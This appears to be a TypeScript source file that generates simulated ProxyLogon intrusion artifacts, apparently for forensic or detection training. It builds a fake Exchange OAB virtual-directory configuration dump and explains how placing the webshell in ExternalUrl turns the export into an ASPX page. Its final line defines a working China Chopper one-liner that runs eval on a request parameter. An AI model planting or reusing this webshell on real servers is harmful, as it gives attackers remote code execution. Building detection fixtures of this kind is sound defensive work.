// Files the ProxyLogon actors left on disk: the OAB-config webshell, a Chopper one-liner, a dump and an archive.

import type { Build, Site } from '../site.js';

/**
 * The "Reset virtual directory" export writes the OAB virtual directory's settings to the chosen path; with
 * the Chopper script in ExternalUrl the text file becomes an ASPX page. Property names follow the public
 * descriptions (CISA/MSTIC rules key on ExternalUrl, InternalAuthenticationMethods, OfflineAddressBooks).
 */
export function oabConfigDump(site: Site, build: Build, externalUrl: string, whenChanged: string): string {
  const rows: [string, string][] = [
    ['RunspaceId', 'ff3ac5b2-4b8e-4d6a-93a1-4f1c2b7d9e10'],
    ['PollInterval', '480'],
    ['OfflineAddressBooks', ''],
    ['RequireSSL', 'False'],
    ['BasicAuthentication', 'False'],
    ['WindowsAuthentication', 'True'],
    ['OAuthAuthentication', 'True'],
    ['MetabasePath', `IIS://${site.fqdn}/W3SVC/1/ROOT/OAB`],
    ['Path', `${site.install}FrontEnd\\HttpProxy\\OAB`],
    ['ExtendedProtectionTokenChecking', 'None'],
    ['ExtendedProtectionFlags', ''],
    ['ExtendedProtectionSPNList', ''],
    ['AdminDisplayVersion', `Version ${build.parts[0]}.${build.parts[1]} (Build ${build.parts[2]}.${build.parts[3]})`],
    ['Server', site.server],
    ['InternalUrl', `https://${site.fqdn}/OAB`],
    ['InternalAuthenticationMethods', 'WindowsIntegrated'],
    ['ExternalUrl', externalUrl],
    ['ExternalAuthenticationMethods', 'WindowsIntegrated'],
    ['AdminDisplayName', ''],
    ['ExchangeVersion', '0.10 (14.0.100.0)'],
    ['Name', 'OAB (Default Web Site)'],
    ['DistinguishedName', `CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=${site.server},CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Corp,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=local`],
    ['Identity', `${site.server}\\OAB (Default Web Site)`],
    ['Guid', site.oabVdirGuid],
    ['ObjectCategory', 'corp.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory'],
    ['ObjectClass', '{top, msExchVirtualDirectory, msExchOABVirtualDirectory}'],
    ['WhenChanged', whenChanged],
    ['OriginatingServer', `DC01.${site.adDomain}`],
    ['IsValid', 'True'],
    ['ObjectState', 'Unchanged'],
  ]; // prettier-ignore
  const width = Math.max(...rows.map(([k]) => k.length));
  return rows.map(([k, v]) => `${k.padEnd(width)} : ${v}`).join('\r\n') + '\r\n';
}

/** The classic China Chopper server side: one line of JScript that evaluates a request parameter. */
export const CHOPPER_ONE_LINER = '<%@ Page Language="Jscript"%><%eval(Request.Item["z9"],"unsafe");%>';
